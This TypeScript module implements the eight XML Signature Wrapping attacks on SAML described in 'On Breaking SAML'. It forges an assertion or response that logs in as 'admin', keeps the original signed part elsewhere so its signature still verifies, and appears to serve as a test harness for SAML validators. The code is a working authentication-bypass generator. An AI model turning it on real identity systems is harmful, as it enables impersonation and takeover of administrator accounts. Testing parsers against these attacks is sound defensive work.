import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';

const assertionNamespace = 'urn:oasis:names:tc:SAML:2.0:assertion';
const protocolNamespace = 'urn:oasis:names:tc:SAML:2.0:protocol';
const signatureNamespace = 'http://www.w3.org/2000/09/xmldsig#';

interface Parts {
  document: Document;
  response: Element;
  assertion: Element;
  /** The signature of the assertion, or of the response if that is what was signed. */
  signature: Element;
  /** The forged copy of the signed part: with another name and id, and without a signature. */
  evil: Element;
}

const first = (root: Document | Element, namespace: string, name: string) =>
  root.getElementsByTagNameNS(namespace, name)[0] as Element;

const without = (element: Element) => element.parentNode?.removeChild(element);

function forge(part: Element): Element {
  const evil = part.cloneNode(true) as Element;
  for (const signature of [...evil.getElementsByTagNameNS(signatureNamespace, 'Signature')]) without(signature);
  evil.setAttribute('ID', '_evil');
  const inner = evil.localName === 'Assertion' ? evil : first(evil, assertionNamespace, 'Assertion');
  if (inner !== evil) inner.setAttribute('ID', '_evil-assertion');
  first(inner, assertionNamespace, 'NameID').textContent = 'admin';
  const [value] = inner.getElementsByTagNameNS(assertionNamespace, 'AttributeValue');
  if (value) value.textContent = 'admin@example.com';
  return evil;
}

/**
 * One of the eight attacks of Somorovsky and others ("On Breaking SAML", 2012). The signed part stays somewhere in the
 * document, so its signature is valid, and a forged part takes its place.
 */
type Wrap = (parts: Parts) => void;

/** For a response that is signed as a whole. */
export const responseWrappings: Record<string, Wrap> = {
  'wrapping 1: the signed response inside the signature of the forged one': ({
    document,
    response,
    signature,
    evil,
  }) => {
    document.replaceChild(evil, response);
    const moved = signature;
    without(moved);
    moved.appendChild(response);
    evil.insertBefore(moved, evil.firstChild);
  },
  'wrapping 2: the signed response before its signature in the forged one': ({
    document,
    response,
    signature,
    evil,
  }) => {
    document.replaceChild(evil, response);
    without(signature);
    evil.insertBefore(signature, evil.firstChild);
    evil.insertBefore(response, signature);
  },
};

/** For a signed assertion. */
export const assertionWrappings: Record<string, Wrap> = {
  'wrapping 3: the forged assertion before the signed one': ({ response, assertion, evil }) => {
    response.insertBefore(evil, assertion);
  },
  'wrapping 4: the forged assertion around the signed one': ({ response, assertion, evil }) => {
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  },
  'wrapping 5: the signature in the forged assertion, the signed one after it': (parts) => {
    const { response, assertion, signature, evil } = parts;
    response.replaceChild(evil, assertion);
    without(signature);
    evil.insertBefore(signature, evil.childNodes[1] ?? null);
    response.appendChild(assertion);
  },
  'wrapping 6: the signed assertion inside the signature of the forged one': (parts) => {
    const { response, assertion, signature, evil } = parts;
    response.replaceChild(evil, assertion);
    without(signature);
    evil.insertBefore(signature, evil.childNodes[1] ?? null);
    signature.appendChild(assertion);
  },
  'wrapping 7: the forged assertion in extensions before the signed one': (parts) => {
    const { document, response, assertion, evil } = parts;
    const extensions = document.createElementNS(protocolNamespace, 'samlp:Extensions');
    response.insertBefore(extensions, assertion);
    extensions.appendChild(evil);
  },
  'wrapping 8: the signed assertion in an object of the forged one’s signature': (parts) => {
    const { document, response, assertion, signature, evil } = parts;
    response.replaceChild(evil, assertion);
    without(signature);
    evil.insertBefore(signature, evil.childNodes[1] ?? null);
    const object = document.createElementNS(signatureNamespace, 'ds:Object');
    signature.appendChild(object);
    object.appendChild(assertion);
  },
};

export function wrap(xml: string, of: 'Assertion' | 'Response', how: Wrap): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement as Element;
  const assertion = first(document, assertionNamespace, 'Assertion');
  const signature = first(document, signatureNamespace, 'Signature');
  how({ document, response, assertion, signature, evil: forge(of === 'Response' ? response : assertion) });
  return new XMLSerializer().serializeToString(document);
}
